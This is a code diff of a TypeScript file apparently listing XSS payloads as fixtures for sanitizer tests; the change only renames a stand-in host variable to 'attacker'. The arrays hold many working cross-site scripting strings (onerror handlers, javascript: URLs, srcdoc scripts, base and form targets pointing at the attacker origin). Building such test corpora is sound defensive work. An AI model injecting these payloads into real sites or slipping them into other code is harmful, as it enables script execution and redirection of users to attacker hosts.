@@ -1,7 +1,7 @@
-import { calledName, strangerOrigin } from "./xss-names.ts"
+import { attackerOrigin, calledName } from "./xss-names.ts"
 
 const call = `${calledName}(1)`
-const stranger = strangerOrigin
+const attacker = attackerOrigin
 
 /** SVG and MathML namespaces inside HTML. */
 export const foreignPayloads = [
@@ -18,7 +18,7 @@ export const foreignPayloads = [
   `<svg><image href=x onerror=${call} /></svg>`,
   `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
   `<svg><style><img src=x onerror=${call}></style></svg>`,
-  `<svg><style>@import "${stranger}/a.css";</style></svg>`,
+  `<svg><style>@import "${attacker}/a.css";</style></svg>`,
   `<svg><title><img src=x onerror=${call}></title></svg>`,
   `<svg><desc><img src=x onerror=${call}></desc></svg>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
@@ -117,29 +117,29 @@ export const embedPayloads = [
   `<iframe src="javascript:parent.${call}"></iframe>`,
   `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
   `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
-  `<iframe src="${stranger}/frame" onload=${call}></iframe>`,
+  `<iframe src="${attacker}/frame" onload=${call}></iframe>`,
   `<object data="javascript:${call}"></object>`,
   `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
-  `<object type="text/x-scriptlet" data="${stranger}/x"></object>`,
+  `<object type="text/x-scriptlet" data="${attacker}/x"></object>`,
   `<embed src="javascript:${call}">`,
   `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZCgxKSIvPg==">`,
-  `<applet code="x" codebase="${stranger}"></applet>`,
-  `<portal src="${stranger}"></portal>`,
-  `<fencedframe src="${stranger}"></fencedframe>`,
+  `<applet code="x" codebase="${attacker}"></applet>`,
+  `<portal src="${attacker}"></portal>`,
+  `<fencedframe src="${attacker}"></fencedframe>`,
   `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
-  `<meta http-equiv="refresh" content="0;url=${stranger}/">`,
+  `<meta http-equiv="refresh" content="0;url=${attacker}/">`,
   `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
   `<meta http-equiv="Set-Cookie" content="a=b">`,
-  `<base href="${stranger}/">`,
+  `<base href="${attacker}/">`,
   `<base href="javascript:/a/-${call}//">`,
   `<form action="javascript:${call}"><button>x</button></form>`,
-  `<form action="${stranger}/"><input type=submit value=Go></form>`,
+  `<form action="${attacker}/"><input type=submit value=Go></form>`,
   `<button formaction="javascript:${call}">x</button>`,
   `<input type=image formaction="javascript:${call}" src=x>`,
-  `<form id=f></form><button form=f formaction="${stranger}/">x</button>`,
+  `<form id=f></form><button form=f formaction="${attacker}/">x</button>`,
   `<isindex action="javascript:${call}">`,
-  `<img srcset="${stranger}/a.png 1x, javascript:${call} 2x">`,
-  `<picture><source srcset="${stranger}/b.png"><img src=x onerror=${call}></picture>`,
+  `<img srcset="${attacker}/a.png 1x, javascript:${call} 2x">`,
+  `<picture><source srcset="${attacker}/b.png"><img src=x onerror=${call}></picture>`,
   `<img src="javascript:${call}">`,
   `<img src="data:image/svg+xml,<svg onload=${call}>">`,
   `<img lowsrc="javascript:${call}" dynsrc="javascript:${call}">`,
@@ -148,7 +148,7 @@ export const embedPayloads = [
   `<blockquote cite="javascript:${call}">x</blockquote>`,
   `<q cite="javascript:${call}">x</q>`,
   `<del cite="javascript:${call}">x</del>`,
-  `<table background="${stranger}/bg.png"><tr><td>x</td></tr></table>`,
-  `<td background="${stranger}/bg.png">x</td>`,
-  `<body background="${stranger}/bg.png">`,
+  `<table background="${attacker}/bg.png"><tr><td>x</td></tr></table>`,
+  `<td background="${attacker}/bg.png">x</td>`,
+  `<body background="${attacker}/bg.png">`,
 ]
